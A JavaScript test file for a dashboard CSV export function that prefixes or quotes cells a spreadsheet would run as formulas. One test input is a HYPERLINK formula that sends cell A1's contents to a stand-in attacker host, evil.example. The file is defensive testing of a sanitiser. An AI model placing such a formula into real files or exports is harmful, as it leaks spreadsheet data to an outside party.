import { expect } from '@open-wc/testing';
import { csvField } from '../src/dashboard/csv.js';

describe('dashboard CSV fields', () => {
  it('neutralises text a spreadsheet would run as a formula', () => {
    expect(csvField('=HYPERLINK("https://evil.example/?x="&A1,"Klik")')).to.equal(`"'=HYPERLINK(""https://evil.example/?x=""&A1,""Klik"")"`);
    expect(csvField('+31 20 123')).to.equal("'+31 20 123");
    expect(csvField('-5')).to.equal("'-5");
    expect(csvField('@SUM(A1)')).to.equal("'@SUM(A1)");
    expect(csvField('\tTab')).to.equal("'\tTab");
  });

  it('leaves ordinary text and numbers alone and quotes separators', () => {
    expect(csvField('Instituut voor ICT')).to.equal('Instituut voor ICT');
    expect(csvField('12')).to.equal('12');
    expect(csvField('< 10')).to.equal('< 10');
    expect(csvField('Zorg; Welzijn')).to.equal('"Zorg; Welzijn"');
  });
});
